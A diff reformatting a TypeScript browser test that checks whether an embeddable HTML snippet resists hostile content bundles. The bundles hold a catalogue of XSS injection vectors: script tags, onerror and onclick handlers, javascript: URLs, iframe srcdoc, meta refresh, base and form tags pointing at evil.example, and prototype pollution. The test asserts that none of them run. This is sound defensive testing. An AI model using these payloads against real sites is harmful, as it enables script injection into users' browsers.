@@ -27,13 +27,30 @@ const RUN = 'window.taken = true;';
 
 /** A page of somebody else with the snippet in it, pinned as the generator writes it or with the pins taken out. */
 async function visit({ form = 'text', isPinned = true }: { form?: Form; isPinned?: boolean } = {}) {
-  const snippet = await describeSnippet({ content: CONTENTS[0]!, question: '9', choice: '2', lang: 'tr', contentLang: 'tr', platform: 'html', form, base: `${host.origin}/`, messages: 'tr' });
+  const snippet = await describeSnippet({
+    content: CONTENTS[0]!,
+    question: '9',
+    choice: '2',
+    lang: 'tr',
+    contentLang: 'tr',
+    platform: 'html',
+    form,
+    base: `${host.origin}/`,
+    messages: 'tr',
+  });
   const [body, head] = snippet!.parts.map(({ code }) => (isPinned ? code : code.replace(/ integrity="[^"]+"/g, '')));
-  const theirs = await serve(newFolder(), { pages: { '/': `<!doctype html><html lang="tr"><head><meta charset="utf-8"><title>Derneğimiz</title><link rel="icon" href="data:,">${head}</head><body>${body}<p>Bizim sayfamız</p></body></html>` } });
+  const theirs = await serve(newFolder(), {
+    pages: {
+      '/': `<!doctype html><html lang="tr"><head><meta charset="utf-8"><title>Derneğimiz</title><link rel="icon" href="data:,">${head}</head><body>${body}<p>Bizim sayfamız</p></body></html>`,
+    },
+  });
   const { page } = await openPage(browser);
   const strangers: string[] = [];
   page.on('dialog', (dialog) => void dialog.dismiss().then(() => strangers.push(dialog.message())));
-  page.on('request', (request) => [host.origin, theirs.origin, 'data:'].some((known) => request.url().startsWith(known)) || strangers.push(request.url()));
+  page.on(
+    'request',
+    (request) => [host.origin, theirs.origin, 'data:'].some((known) => request.url().startsWith(known)) || strangers.push(request.url()),
+  );
   await page.goto(`${theirs.origin}/`, { waitUntil: 'load' });
   await page.waitForNetworkIdle({ idleTime: 100 });
   // Whatever can be clicked is clicked: what waits for that has its chance. No link is followed.
@@ -81,14 +98,39 @@ for (const form of ['disclosure', 'dialog'] as const) {
 
 const evil = 'https://evil.example/';
 const bundle = (answer: unknown, more: object = {}) =>
-  JSON.stringify({ format: 1, lang: 'tr', question: { id: '9', title: 'Soru' }, choices: [{ id: '2', title: `<img src=x onerror="${RUN}">`, answer, resourcesIntro: [], resources: [], ...more }] });
+  JSON.stringify({
+    format: 1,
+    lang: 'tr',
+    question: { id: '9', title: 'Soru' },
+    choices: [{ id: '2', title: `<img src=x onerror="${RUN}">`, answer, resourcesIntro: [], resources: [], ...more }],
+  });
 
 const BUNDLES: Record<string, string> = {
-  'a script': bundle([['script', RUN], ['script', { src: `${evil}x.js` }]]),
-  'handlers and styles': bundle([['p', { onclick: RUN, onmouseenter: RUN, style: `background:url(${evil})` }, 'Yalan'], ['img', { src: 'x', onerror: RUN }], ['svg', { onload: RUN }]]),
-  'addresses that run': bundle([['p', ['a', { href: `javascript:${RUN}` }, 'Yalan'], ['a', { href: 'data:text/html,x' }, 'x']]], { resources: [{ title: 'T', url: `javascript:${RUN}`, kind: 'page', note: [] }] }),
-  'frames, forms and what loads': bundle([['iframe', { src: evil, srcdoc: `<script>parent.${RUN}</script>` }], ['object', { data: evil }], ['link', { rel: 'stylesheet', href: evil }], ['form', { action: evil }, ['button', 'Yalan']], ['img', { src: `${evil}x.png` }], ['meta', { 'http-equiv': 'refresh', content: `0;url=${evil}` }], ['base', { href: evil }]]),
-  'a polluted prototype': bundle([['p', JSON.parse(`{"__proto__":{"onclick":"${RUN}"}}`), 'Yalan']]).replace('{', `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"},`),
+  'a script': bundle([
+    ['script', RUN],
+    ['script', { src: `${evil}x.js` }],
+  ]),
+  'handlers and styles': bundle([
+    ['p', { onclick: RUN, onmouseenter: RUN, style: `background:url(${evil})` }, 'Yalan'],
+    ['img', { src: 'x', onerror: RUN }],
+    ['svg', { onload: RUN }],
+  ]),
+  'addresses that run': bundle([['p', ['a', { href: `javascript:${RUN}` }, 'Yalan'], ['a', { href: 'data:text/html,x' }, 'x']]], {
+    resources: [{ title: 'T', url: `javascript:${RUN}`, kind: 'page', note: [] }],
+  }),
+  'frames, forms and what loads': bundle([
+    ['iframe', { src: evil, srcdoc: `<script>parent.${RUN}</script>` }],
+    ['object', { data: evil }],
+    ['link', { rel: 'stylesheet', href: evil }],
+    ['form', { action: evil }, ['button', 'Yalan']],
+    ['img', { src: `${evil}x.png` }],
+    ['meta', { 'http-equiv': 'refresh', content: `0;url=${evil}` }],
+    ['base', { href: evil }],
+  ]),
+  'a polluted prototype': bundle([['p', JSON.parse(`{"__proto__":{"onclick":"${RUN}"}}`), 'Yalan']]).replace(
+    '{',
+    `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"},`,
+  ),
   'a script in place of JSON': RUN,
   'a page': `<script>${RUN}</script>`,
   'half a file': bundle([['p', 'x']]).slice(0, 90),
@@ -100,7 +142,10 @@ for (const [name, body] of Object.entries(BUNDLES)) {
     hostile.set(/content\/tr\/9\.json/, body);
     const { taken, text, addresses, strangers } = await visit();
     assert.deepEqual([taken, strangers], [false, []]);
-    assert.ok(addresses.every((protocol) => /^https?:$/.test(protocol)), addresses.join());
+    assert.ok(
+      addresses.every((protocol) => /^https?:$/.test(protocol)),
+      addresses.join(),
+    );
     assert.ok(text.includes('Bizim sayfamız') && /onerror|Başka STÖ/.test(text), text); // what they have written, as text; or the link in the tag
   });
 }
